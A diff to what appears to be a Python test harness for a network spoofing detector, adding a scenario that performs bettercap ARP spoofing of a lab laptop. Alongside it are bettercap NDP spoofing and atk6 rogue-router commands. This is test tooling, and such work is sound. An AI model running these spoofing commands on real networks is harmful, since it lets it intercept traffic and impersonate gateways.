@@ -203,6 +203,11 @@ RA, NA = "icmp6 and ip6[40] = 134", "icmp6 and ip6[40] = 136 and ip6[48:4] = 0xf
 # The frame is read by hand where an extension header hides it.
 ANY6 = "ip6"
 ROGUE = ("atk6-fake_router26", "-A", "2001:db8:bad::/64", "-D", "fe80::66")
+# bettercap spoofs whose hardware address the kernel knows, and asks nobody for it.
+SPOOF4 = (
+    f"ping -nqc1 {LAPTOP4}; exec bettercap -iface eth0 -no-colors -eval "
+    f"'set arp.spoof.targets {LAPTOP4}; set arp.spoof.internal true; arp.spoof on'"
+)
 NDP = f"ping -nqc1 {LAPTOP6}%eth0; exec bettercap -iface eth0 -no-colors -eval "
 NDP += f"'net.recon on; sleep 2; set ndp.spoof.targets {LAPTOP6}; set ndp.spoof.neighbour {ROUTER6}; ndp.spoof on'"
 
@@ -230,7 +235,7 @@ ATTACKS = (
         "bettercap ARP",
         "dual",
         "gateway-impersonated",
-        bettercap(f"set arp.spoof.targets {LAPTOP4}; set arp.spoof.internal true; arp.spoof on"),
+        ("sh", "-c", SPOOF4),
         ARP,
         names=impostor,
     ),
